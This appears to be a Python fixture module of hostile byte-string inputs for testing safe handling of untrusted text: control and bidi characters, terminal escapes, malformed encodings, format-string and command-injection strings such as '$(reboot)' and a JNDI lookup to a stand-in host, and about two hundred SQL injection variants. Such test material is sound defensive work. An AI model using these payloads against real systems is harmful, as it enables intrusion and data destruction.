"""Texts that strangers may send in the hope that somebody takes them for something else than text. Bytes."""

# What a screen, a log or a page may not get from strangers as it is.
CONTROLS = "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]"

ENCODINGS = [
    "先手の勝ち。".encode("shift_jis"), "先手の勝ち。".encode("euc_jp"), "先手の勝ち。".encode("iso2022_jp"),
    "先手の勝ち。".encode(), b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf", b"\xed\xa0\x80\xed\xb0\x80", b"\xf4\x90\x80\x80",
    b"\xff\xfe\xfd", b"\xe3\x81", "\u202egnp.exe\u202c".encode(), "\u2066x\u2069\u200f".encode(),
    b"\x1b[2J\x1b]0;owned\x07", b"\x08\x08\x7f", b"\x9b31m", b"a\rb",
    bytes(range(1, 10)) + bytes(range(11, 32)),
    bytes(range(127, 256)), b"a\0b"]

FORMATS = [b"%n%n%n%n%s%s%s", b"%08x.%08x", b"{}{0}{0!r}{:>999999999}", b"${jndi:ldap://e.example/x}", b"$(reboot)",
           b"`reboot`", b"; reboot", b"| reboot", b'","level":"error","text":"', b'"}\\', b"\\x0a", b"\\u000a"]

_TAILS = [b"", b" --", b"#", b"/*", b";--"]
_SQL = [b"' OR '1'='1", b"' OR 1=1", b"'; DROP TABLE facts", b'"; DROP TABLE journal', b"1; DELETE FROM games",
        b"' UNION SELECT NULL", b"') OR ('a'='a", b"\\' OR 1=1", b"%' OR '%'='", b"' AND pg_sleep(10)",
        b"'||(SELECT version())||'", b"x'; VACUUM", b"'; ATTACH DATABASE '/tmp/evil' AS e", b"';COPY x TO PROGRAM 'id'",
        b"$$; DROP TABLE facts; $$", b"\xbf\x27 OR 1=1", b"'; SELECT load_extension('x')", b"admin'", b"''''", b"\\",
        b"%_%", b"NULL", b"0x27", b"1e309", b"-0", b"CHAR(39)", b"' HAVING 1=1", b"' ORDER BY 99", b"@@version",
        b"'; ROLLBACK", b"'; COMMIT", b"'; PRAGMA writable_schema=1", b"E'\\047'", b"U&'\\0027'", b"$1", b"?1",
        b":name", b"'::regclass", b"\xef\xbc\x87 OR 1=1", b"\xca\xbc OR 1=1"]
SQL = [text + tail for text in _SQL for tail in _TAILS]  # 200 of them
